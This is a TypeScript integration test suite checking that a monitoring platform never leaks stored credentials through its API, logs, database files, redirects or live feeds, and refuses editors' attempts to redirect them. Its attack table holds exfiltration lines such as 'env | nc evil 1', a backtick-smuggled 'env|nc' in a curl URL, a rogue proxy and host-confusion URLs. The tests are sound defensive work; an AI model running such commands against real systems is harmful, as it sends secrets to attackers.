// Credentials in definitions: written through every table that takes them, looked for behind every door and in every byte that
// is stored; and what someone who may edit would do to get at them.
import { randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'

import { type Role, ROLES, TABLE_ACCESS } from '@watchroom/shared/access'
import { type TopicName, TOPICS } from '@watchroom/shared/protocol'
import { SETTINGS_RESOURCES } from '@watchroom/shared/settings'
import { Client } from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { type BackendAnswer, startEmbeddedBackend, type TestBackend } from '#support/embeddedBackend.ts'
import { eventually } from '#support/eventually.ts'
import { type RunningGateway, startGateway, toGatewayBackend } from '#support/gateway.ts'
import { openRawLives, type RawLive, type RawSubscription, settled } from '#support/rawLive.ts'
import { createSecrets, SECRET_MARK, SECRET_ROWS, TABLES_WITH_AUTHOR } from '#support/secretRows.ts'

import { createLogger } from '../../gateway/src/platform/logger.ts'

interface Call {
  method?: string
  body?: unknown
  prefer?: string
}
interface Answer {
  status: number
  text: string
}
interface Received {
  path: string
  headers: IncomingHttpHeaders
  body: string
}

let backend: TestBackend
let gateway: RunningGateway
let database: Client
let target: Server
let targetUrl: string
const received: Received[] = []
const sessions = new Map<Role, Readonly<Record<string, string>>>()
let adminId: string
/** What the backend and the gateway print at their most talkative. */
let logs: string
const gatewayLog: string[] = []
/** Every topic that needs no row, open to an administrator from the beginning. */
let live: RawLive
let subscriptions: RawSubscription[]

beforeAll(async () => {
  logs = mkdtempSync(join(tmpdir(), 'wr-logs-'))
  // Editors write scripts here: what keeps them from stored credentials is the rule under test, not that one.
  backend = await startEmbeddedBackend({
    programs: { savers: 'editor' },
    logLevel: 'trace',
    logFile: join(logs, 'backend'),
  })
  const destination = new Writable({
    write: (line: Buffer, _encoding, done) => {
      gatewayLog.push(line.toString())
      done()
    },
  })
  gateway = await startGateway({
    backend: toGatewayBackend(backend),
    logger: createLogger({ level: 'trace', destination }),
  })
  for (const role of ROLES) sessions.set(role, (await gateway.signInAs(role)).headers)
  live = openRawLives(gateway.url, sessions.get('admin') ?? {})
  const names = (Object.keys(TOPICS) as TopicName[]).filter((name) => TOPICS[name].params.safeParse({}).success)
  subscriptions = [
    ...names.map((name) => live.subscribe(name, {})),
    ...Object.keys(SETTINGS_RESOURCES).map((table) => live.subscribe('settings', { table })),
  ]
  database = new Client({ connectionString: backend.databaseUrl })
  await database.connect()
  const { rows } = await database.query<{ id: string }>(`select id from people where email like 'admin-%' limit 1`)
  adminId = rows[0]?.id ?? ''
  target = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      received.push({ path: request.url ?? '', headers: request.headers, body })
      response.statusCode = request.url?.startsWith('/ok') ? 200 : 500
      response.end(`you said ${JSON.stringify(request.headers)} ${body}`)
    })
  }).listen(0, '127.0.0.1')
  await once(target, 'listening')
  targetUrl = `http://127.0.0.1:${(target.address() as AddressInfo).port}`
})
afterAll(async () => {
  live.close()
  target.close()
  await database.end()
  await gateway.stop()
  await backend.stop()
  rmSync(logs, { recursive: true, force: true })
})

async function call(role: Role, path: string, { method = 'GET', body, prefer }: Call = {}): Promise<Answer> {
  const response = await fetch(`${gateway.url}/api${path}`, {
    method,
    headers: {
      ...sessions.get(role),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...(prefer === undefined ? {} : { prefer }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  return { status: response.status, text: await response.text() }
}

/** @returns the row as the database answers it */
async function write(
  role: Role,
  path: string,
  method: 'POST' | 'PATCH',
  body: unknown,
): Promise<Record<string, unknown>> {
  const { status, text } = await call(role, path, { method, body, prefer: 'return=representation' })
  expect(status, text).toBe(method === 'POST' ? 201 : 200)
  return (JSON.parse(text) as Record<string, unknown>[])[0] ?? {}
}

const createCanary = (spec: unknown, more: Record<string, unknown> = {}): Promise<Record<string, unknown>> =>
  write('admin', '/db/canaries', 'POST', { name: randomUUID(), namespace: 'default', spec, ...more })

const patchCanary = (role: Role, id: unknown, body: unknown): Promise<Answer> =>
  call(role, `/db/canaries?id=eq.${String(id)}`, { method: 'PATCH', body, prefer: 'return=representation' })

/** Runs the one check of a canary. */
async function runNow(canaryId: unknown): Promise<Record<string, unknown>> {
  let checkId = ''
  await expect
    .poll(async () => {
      const { rows } = await database.query<{ id: string }>(
        'select id from checks where canary_id = $1 and deleted_at is null',
        [canaryId],
      )
      checkId = rows[0]?.id ?? ''
      return (await call('editor', `/canary/run/check/${checkId}`, { method: 'POST' })).status
    })
    .toBe(200)
  const { text } = await call('editor', `/canary/run/check/${checkId}`, { method: 'POST' })
  return JSON.parse(text) as Record<string, unknown>
}

const lastReceived = (path: string): Received | undefined => received.findLast((request) => request.path === path)

const secrets = createSecrets()
const secret = secrets.next

describe('a secret that was written', () => {
  const written: Record<string, Record<string, unknown>> = {}

  beforeAll(async () => {
    for (const [table, build] of Object.entries(SECRET_ROWS)) {
      const author = TABLES_WITH_AUTHOR.includes(table) ? { created_by: adminId } : {}
      const row = { name: `${table} with secrets`, ...build(secret), ...author }
      written[table] = await write('admin', `/db/${table}`, 'POST', row)
    }
    await eventually(
      async () => {
        const { rowCount } = await database.query('select from checks where name = $1', ['shop'])
        if (rowCount === 0) throw new Error('the checks are not there yet')
      },
      { timeout: 10_000 },
    )
  })

  it('is not in the answer to the write', () => {
    for (const [table, row] of Object.entries(written)) {
      expect(JSON.stringify(row), table).toContain('***')
      expect(JSON.stringify(row), table).not.toContain(SECRET_MARK)
    }
  })

  it.each(ROLES)('is behind no table, view or function of a %s', async (role) => {
    const names = Object.keys(TABLE_ACCESS)
    expect(names.length).toBeGreaterThan(100)
    const readable: string[] = []
    for (const name of names) {
      const { status, text } = await call(role, `/db/${name}?limit=1000`)
      expect(text, name).not.toContain(SECRET_MARK)
      if (status === 200 || status === 206) readable.push(name)
    }
    const expected =
      role === 'admin' ? Object.keys(SECRET_ROWS) : Object.keys(SECRET_ROWS).filter((name) => name !== 'connections')
    expect(readable).toEqual(expect.arrayContaining(expected))
  })

  it('is in no summary, no topology, no snapshot', async () => {
    const { rows } = await database.query<{ id: string }>(
      `insert into components (name, external_id, status, type) values ('a', 'a', 'healthy', 'x') returning id`,
    )
    const paths = [
      '/canary/api/summary',
      `/snapshot/topology/${rows[0]?.id}?related=true`,
      '/properties',
      '/people/roles',
    ]
    for (const path of paths) expect((await call('admin', path)).text, path).not.toContain(SECRET_MARK)
  })

  it('is in no row of the whole database, and in no byte of its files', async () => {
    const { rows: tables } = await database.query<{ name: string }>(
      `select oid::regclass::text as name from pg_class where relkind in ('r', 'p', 'm')
         and relnamespace::regnamespace::text !~ '^(pg_|information_schema)'`,
    )
    expect(tables.length).toBeGreaterThan(50)
    for (const { name } of tables) {
      const { rows } = await database.query<{ count: number }>(
        `select count(*)::int as count from ${name} as stored where stored::text like $1`,
        [`%${SECRET_MARK}%`],
      )
      expect(rows, name).toEqual([{ count: 0 }])
    }
    await database.query('checkpoint')
    expect(filesWith(realpathSync(join(backend.dataDirectory, 'postgres')), SECRET_MARK)).toEqual([])
  })

  it('is stored once, sealed, and is what was written', async () => {
    const { rows } = await database.query<{ count: number }>(
      'select count(*)::int as count from watchroom_internal.secrets where not is_pending',
    )
    expect(rows[0]?.count).toBe(secrets.count())
    const { rows: pending } = await database.query('select from watchroom_internal.secrets where is_pending')
    expect(pending).toEqual([])
  })

  it('stays when the whole row comes back, as an update and as an upsert', async () => {
    const stored = async (): Promise<unknown> =>
      (await database.query('select id, path, span from watchroom_internal.secrets order by id')).rows
    const before = await stored()
    for (const [table, row] of Object.entries(written)) {
      // Sealing this many secrets in a row uses up what one person may ask of the database.
      sessions.set('admin', (await gateway.signInAs('admin')).headers)
      await write('admin', `/db/${table}?id=eq.${String(row['id'])}`, 'PATCH', row)
      const { status, text } = await call('admin', `/db/${table}`, {
        method: 'POST',
        body: [row],
        prefer: 'resolution=merge-duplicates,return=representation',
      })
      expect([200, 201], text).toContain(status)
    }
    expect(await stored()).toEqual(before)
    // Two dozen rows are sealed twice, which is slow on purpose.
  }, 90_000)

  it('goes with its row', async () => {
    const row = written['integrations']
    await database.query('delete from integrations where id = $1', [row?.['id']])
    const { rows } = await database.query('select from watchroom_internal.secrets where row_id = $1', [row?.['id']])
    expect(rows).toEqual([])
  })
})

function filesWith(directory: string, text: string): string[] {
  const needle = Buffer.from(text)
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => {
      try {
        return readFileSync(path).includes(needle)
      } catch (error) {
        // The server is at work and takes files away.
        if ((error as NodeJS.ErrnoException).code === 'ENOENT') return false
        throw error
      }
    })
}

describe('a check', () => {
  it('is run with its secrets, whose echo nobody sees', async () => {
    const word = secret()
    const { id } = await createCanary({
      interval: 3600,
      http: [
        {
          name: 'echo',
          url: `${targetUrl}/echo`,
          headers: [{ name: 'X-Token', value: word }],
          authentication: { username: 'ada', password: word },
        },
      ],
    })
    const answer = await runNow(id)
    const request = lastReceived('/echo')
    expect(request?.headers['x-token']).toBe(word)
    const basic = Buffer.from(`ada:${word}`).toString('base64')
    expect(request?.headers.authorization).toBe(`Basic ${basic}`)
    expect(JSON.stringify(answer)).toContain('you said')
    for (const text of [word, basic]) expect(JSON.stringify(answer)).not.toContain(text)
    const { rows } = await database.query<{ text: string }>(
      `select string_agg(check_statuses::text, '') as text from check_statuses join checks on checks.id = check_id
       where canary_id = $1`,
      [id],
    )
    for (const text of [word, basic]) expect(rows[0]?.text).not.toContain(text)
  })

  it('is run with a new secret as soon as one was entered, though its definition reads the same', async () => {
    const spec = (token: string) => ({
      interval: 3600,
      http: [{ name: 'renewed', url: `${targetUrl}/ok/renewed`, headers: [{ name: 'X-Token', value: token }] }],
    })
    const { id } = await createCanary(spec('first-token'))
    await runNow(id)
    expect(lastReceived('/ok/renewed')?.headers['x-token']).toBe('first-token')
    expect((await patchCanary('editor', id, { spec: spec('second-token') })).status).toBe(200)
    await expect.poll(() => lastReceived('/ok/renewed')?.headers['x-token']).toBe('second-token')
  })

  it('gives each header its own value after they were put in another order', async () => {
    const headers = (values: Record<string, string>) => Object.entries(values).map(([name, value]) => ({ name, value }))
    const spec = (values: Record<string, string>) => ({
      interval: 3600,
      http: [{ name: 'order', url: `${targetUrl}/ok/order`, headers: headers(values) }],
    })
    const { id } = await createCanary(spec({ 'X-A': 'value-of-a', 'X-B': 'value-of-b', 'X-C': 'value-of-c' }))
    const { status, text } = await patchCanary('editor', id, {
      spec: spec({ 'X-C': '***', 'X-New': 'new', 'X-A': '***' }),
    })
    expect(status, text).toBe(200)
    await runNow(id)
    await expect
      .poll(() => lastReceived('/ok/order')?.headers)
      .toMatchObject({ 'x-a': 'value-of-a', 'x-c': 'value-of-c', 'x-new': 'new' })
    expect(lastReceived('/ok/order')?.headers).not.toHaveProperty('x-b')
  })

  it('takes nothing that may be a credential along to another address', async () => {
    const elsewhere = createServer((request, response) => {
      received.push({ path: `elsewhere${request.url ?? ''}`, headers: request.headers, body: '' })
      response.end('ok')
    }).listen(0, '127.0.0.1')
    await once(elsewhere, 'listening')
    const redirecting = createServer((_, response) => {
      const { port } = elsewhere.address() as AddressInfo
      response.writeHead(307, { location: `http://127.0.0.1:${port}/there` }).end()
    }).listen(0, '127.0.0.1')
    await once(redirecting, 'listening')
    try {
      const { port } = redirecting.address() as AddressInfo
      const { id } = await createCanary({
        interval: 3600,
        http: [
          {
            name: 'redirected',
            method: 'POST',
            url: `http://127.0.0.1:${port}/`,
            body: `token=${secret()}`,
            headers: [
              { name: 'X-Token', value: secret() },
              { name: 'Accept', value: 'text/plain' },
            ],
          },
        ],
      })
      await runNow(id)
      const request = lastReceived('elsewhere/there')
      expect(request?.headers['accept']).toBe('text/plain')
      expect(JSON.stringify(request?.headers)).not.toContain(SECRET_MARK)
      expect(request?.headers).not.toHaveProperty('content-length', expect.stringMatching(/[1-9]/))
    } finally {
      elsewhere.close()
      redirecting.close()
    }
  })
})

describe('an editor who wants a stored secret', () => {
  const http = (more: Record<string, unknown> = {}) => ({
    interval: 3600,
    http: [
      {
        name: 'shop',
        url: 'https://shop.invalid/a',
        headers: [{ name: 'Authorization', value: 'Bearer kept-4-shop' }],
        ...more,
      },
    ],
  })
  const masked = [{ name: 'Authorization', value: '***' }]
  const exec = (more: Record<string, unknown> = {}) => ({
    interval: 3600,
    exec: [{ name: 'job', script: 'true', env: [{ name: 'WORD', value: 'kept-4-the-job' }], ...more }],
  })

  it.each<[string, unknown, unknown]>([
    ['points the check at another host', http(), http({ url: 'https://evil.invalid/a', headers: masked })],
    ['at another port', http(), http({ url: 'https://shop.invalid:8443/a', headers: masked })],
    ['at the same host without TLS', http(), http({ url: 'http://shop.invalid/a', headers: masked })],
    ['hides the host behind a user', http(), http({ url: 'https://shop.invalid@evil.invalid/a', headers: masked })],
    [
      'hides the host behind a backslash',
      http(),
      http({ url: 'https://evil.invalid\\@shop.invalid/a', headers: masked }),
    ],
    ['hides the host behind a tab', http(), http({ url: 'https://shop.invalid\t.evil.invalid/a', headers: masked })],
    ['accepts any certificate', http(), http({ insecureSkipVerify: true, headers: masked })],
    [
      'asks the same address for another site',
      http(),
      http({ headers: [...masked, { name: 'Host', value: 'evil.invalid' }] }),
    ],
    ['names a connection', http(), http({ connection: 'connection://default/evil', headers: masked })],
    ['writes another script', exec(), exec({ script: 'env | nc evil 1', env: [{ name: 'WORD', value: '***' }] })],
    [
      'gives the script another variable',
      exec(),
      exec({
        env: [
          { name: 'WORD', value: '***' },
          { name: 'https_proxy', value: 'http://evil.invalid' },
        ],
      }),
    ],
    [
      'enters another secret that a script is led by',
      exec({ script: 'curl https://x.invalid/?token=abc' }),
      exec({ script: 'curl https://x.invalid/?token=`env|nc`', env: [{ name: 'WORD', value: '***' }] }),
    ],
    [
      'moves it to another check',
      http(),
      { ...http(), http: [...http().http, { name: 'mine', url: 'https://evil.invalid', headers: masked }] },
    ],
    ['gives it another name', http(), http({ headers: [{ name: 'X-Echo', value: '***' }] })],
    ['puts it where none was', http(), http({ headers: masked, password: '***' })],
    ['puts it into an address', http(), http({ url: 'https://***@shop.invalid/a', headers: masked })],
    [
      'points a DSN elsewhere by a parameter',
      { interval: 3600, postgres: [{ name: 'db', url: 'postgres://u:kept-4-db@db.invalid/x' }] },
      { interval: 3600, postgres: [{ name: 'db', url: 'postgres://***@db.invalid/x?host=evil.invalid' }] },
    ],
  ])('%s: refused, by name of the field, when it is saved and when it is tried', async (_, spec, attack) => {
    const { id } = await createCanary(spec)
    const before = (await call('admin', `/db/canaries?id=eq.${String(id)}`)).text
    for (const role of ['editor', 'commander'] as const) {
      const { status, text } = await patchCanary(role, id, { spec: attack })
      if (status === 403) continue
      expect(status, text).toBe(400)
      expect(text).toMatch(/spec\.[\w.-]+: (?:the stored secret is for another|no secret is stored)/)
      expect(text).not.toMatch(/kept-4/)
    }
    const tried = await call('editor', '/canary/api/try', { method: 'POST', body: { spec: attack, canary_id: id } })
    expect(tried.status, tried.text).toBe(400)
    expect(tried.text).not.toMatch(/kept-4/)
    expect((await call('admin', `/db/canaries?id=eq.${String(id)}`)).text).toBe(before)
  })

  it('may edit all else, and tries the stored check with its secret', async () => {
    const { id } = await createCanary(http({ url: `${targetUrl}/ok/tried` }))
    const edited = http({ url: `${targetUrl}/ok/elsewhere?x=1`, headers: masked, name: 'renamed', description: 'more' })
    const tried = await call('editor', '/canary/api/try', { method: 'POST', body: { spec: edited, canary_id: id } })
    expect(JSON.parse(tried.text)).toMatchObject({ checks: [{ ok: true }] })
    expect(lastReceived('/ok/elsewhere?x=1')?.headers.authorization).toBe('Bearer kept-4-shop')
    expect((await patchCanary('editor', id, { spec: edited })).status).toBe(200)
  })

  it('gets none with *** in a row of his own, whatever row it is', async () => {
    const { id } = await createCanary(http())
    const copy = {
      name: randomUUID(),
      namespace: 'default',
      spec: http({ url: 'https://evil.invalid', headers: masked }),
    }
    const inserted = await call('editor', '/db/canaries', { method: 'POST', body: copy })
    expect(inserted.status).toBe(400)
    expect(inserted.text).toContain('spec.http.shop.headers.Authorization.value: no secret is stored here')
    const upserted = await call('editor', '/db/canaries', {
      method: 'POST',
      body: { ...copy, id },
      prefer: 'resolution=merge-duplicates',
    })
    expect(upserted.status).toBe(400)
    const tried = await call('editor', '/canary/api/try', { method: 'POST', body: { spec: copy.spec } })
    expect(tried.text).toContain('not stored here')
  })

  it('does not replace what is stored for a row that stays as it is', async () => {
    const { id, name } = await createCanary(http({ url: `${targetUrl}/ok/kept` }))
    const ignored = await call('editor', '/db/canaries', {
      method: 'POST',
      body: {
        id,
        name,
        namespace: 'default',
        spec: http({ headers: [{ name: 'Authorization', value: 'Bearer his own' }] }),
      },
      prefer: 'resolution=ignore-duplicates',
    })
    expect([200, 201]).toContain(ignored.status)
    await runNow(id)
    expect(lastReceived('/ok/kept')?.headers.authorization).toBe('Bearer kept-4-shop')
  })

  it('gets none by an agent of his own', async () => {
    const { id } = await createCanary(http())
    const made = await call('editor', '/agent/generate', { method: 'POST', body: { name: `agent ${randomUUID()}` } })
    const { id: personId, access_token: token } = JSON.parse(made.text) as { id: string; access_token: string }
    const { rows } = await database.query<{ id: string }>('select id from agents where person_id = $1', [personId])
    const agentId = rows[0]?.id
    const given = await patchCanary('editor', id, { agent_id: agentId })
    expect(given.status).toBe(400)
    expect(given.text).toContain('spec.http.shop.headers.Authorization.value')
    // Another agent, to which an administrator gave one.
    const other = await call('admin', '/agent/generate', { method: 'POST', body: { name: `agent ${randomUUID()}` } })
    const { id: otherPerson, access_token: otherToken } = JSON.parse(other.text) as { id: string; access_token: string }
    const { rows: others } = await database.query<{ id: string }>('select id from agents where person_id = $1', [
      otherPerson,
    ])
    expect((await patchCanary('admin', id, { agent_id: others[0]?.id })).status).toBe(200)
    const pull = (bearer: string): Promise<BackendAnswer> =>
      backend.call('/upstream/canary/pull', { headers: { authorization: `Bearer ${bearer}` } })
    expect((await pull(otherToken)).text).toContain('Bearer kept-4-shop')
    expect((await pull(token)).text).not.toContain('kept-4')
    // His agent does not become the other.
    const stolen = await call('editor', `/db/agents?id=eq.${others[0]?.id}`, {
      method: 'PATCH',
      body: { person_id: personId },
    })
    expect(stolen.status).toBeGreaterThanOrEqual(400)
    const second = await call('editor', '/db/agents', {
      method: 'POST',
      body: { name: `agent ${randomUUID()}`, person_id: otherPerson },
    })
    expect(second.status).toBeGreaterThanOrEqual(400)
    expect((await pull(token)).text).not.toContain('kept-4')
  })

  it('is not an administrator, who may take one elsewhere', async () => {
    const { id } = await createCanary(http())
    const { status } = await patchCanary('admin', id, { spec: http({ url: `${targetUrl}/ok/moved`, headers: masked }) })
    expect(status).toBe(200)
    await runNow(id)
    expect(lastReceived('/ok/moved')?.headers.authorization).toBe('Bearer kept-4-shop')
  })
})

describe('what agents push', () => {
  it('is hidden like what people write, and not kept', async () => {
    const word = secret()
    const made = await call('admin', '/agent/generate', { method: 'POST', body: { name: `agent ${randomUUID()}` } })
    const { access_token: token } = JSON.parse(made.text) as { access_token: string }
    const canary = {
      id: randomUUID(),
      name: 'from a file',
      namespace: 'edge',
      source: 'ConfigFile',
      spec: { http: [{ name: 'edge', url: 'https://edge.invalid', password: word }] },
    }
    const check = { id: randomUUID(), canary_id: canary.id, type: 'http', name: 'edge', spec: canary.spec.http[0] }
    const headers = { authorization: `Bearer ${token}` }
    for (let attempt = 0; attempt < 2; attempt++) {
      const answer = await backend.call('/upstream/push', {
        method: 'POST',
        headers,
        body: { canaries: [canary], checks: [check] },
      })
      expect(answer.status, answer.text).toBe(200)
    }
    for (const table of ['canaries', 'checks'] as const) {
      const { rows } = await database.query<{ text: string }>(`select spec::text as text from ${table} where id = $1`, [
        table === 'canaries' ? canary.id : check.id,
      ])
      expect(rows[0]?.text).toContain('"password": "***"')
    }
    const { rows } = await database.query('select from watchroom_internal.secrets where row_id = $1', [canary.id])
    expect(rows).toEqual([])
  })
})

describe('a connection', () => {
  const word = 'S3CR3T-of-the-connection'

  beforeAll(async () => {
    await write('admin', '/db/connections', 'POST', {
      name: 'shop',
      namespace: 'prod',
      type: 'http',
      url: targetUrl,
      username: 'ada',
      password: word,
    })
  })

  const outcomeOf = async (check: Record<string, unknown>): Promise<Record<string, unknown>> => {
    const { text, status } = await call('editor', '/canary/api/try', {
      method: 'POST',
      body: { spec: { http: [check] } },
    })
    expect(status, text).toBe(200)
    expect(text).not.toContain(word)
    return (JSON.parse(text) as { checks: Record<string, unknown>[] }).checks[0] ?? {}
  }

  it('is used by name, and its words are filled in on the server', async () => {
    const outcome = await outcomeOf({
      name: 'by name',
      connection: 'connection://prod/shop',
      url: '$(url)/connected',
      headers: [{ name: 'X-Password', value: 'it is $(password)' }],
    })
    expect(outcome).toMatchObject({ ok: false, error: 'answered 500 Internal Server Error, expected 2xx' })
    expect(lastReceived('/connected')?.headers).toMatchObject({
      'x-password': `it is ${word}`,
      authorization: `Basic ${Buffer.from(`ada:${word}`).toString('base64')}`,
    })
    expect(JSON.stringify(outcome)).not.toContain(Buffer.from(`ada:${word}`).toString('base64'))
  })

  it.each<[string, Record<string, unknown>]>([
    ['another host', { url: 'http://localhost.invalid/' }],
    ['another port', { url: 'http://127.0.0.1:1/' }],
    ['another site at the address', { headers: [{ name: 'Host', value: 'evil.invalid' }] }],
  ])('gives nothing to %s', async (_, more) => {
    const sent = received.length
    expect(await outcomeOf({ name: 'away', connection: 'connection://prod/shop', ...more })).toMatchObject({
      ok: false,
      invalid: true,
    })
    expect(received.length).toBe(sent)
  })

  it('that is not there is named', async () => {
    expect(await outcomeOf({ name: 'nowhere', connection: 'connection://prod/none' })).toMatchObject({
      invalid: true,
      error: 'connection: there is none named none in the namespace prod',
    })
  })

  it('is in no row of a check that names it', async () => {
    const { id } = await createCanary({
      interval: 3600,
      http: [{ name: 'stored', connection: 'connection://prod/shop', url: '$(url)/stored' }],
    })
    await runNow(id)
    expect(lastReceived('/stored')?.headers.authorization).toMatch(/^Basic /)
    for (const table of ['canaries', 'checks', 'check_statuses', 'event_queue', 'job_history']) {
      const { rows } = await database.query<{ text: string }>(
        `select string_agg(stored::text, '') as text from ${table} as stored`,
      )
      expect(rows[0]?.text ?? '', table).not.toContain(word)
    }
  })
})

describe('after all of this', () => {
  /** Begins of all that was secret above. */
  const SECRETS = new RegExp(`${SECRET_MARK}|kept-4|(?:first|second)-token`)

  it('no line of a log has a secret, however much is logged', () => {
    const printed = readFileSync(join(logs, 'backend'), 'utf8')
    for (const text of [printed, gatewayLog.join('')]) {
      const lines = text.split('\n')
      expect(lines.length).toBeGreaterThan(50)
      expect(lines.filter((line) => SECRETS.test(line))).toEqual([])
    }
  })

  it('no topic told one to an administrator', async () => {
    expect(subscriptions.length).toBeGreaterThan(20)
    for (const subscription of subscriptions) {
      await settled(subscription)
      expect([subscription.topic, subscription.state()]).toEqual([subscription.topic, 'open'])
    }
    await eventually(() => expect(live.received()).toContain('"shop"'))
    expect(SECRETS.exec(live.received())).toBeNull()
  })
})
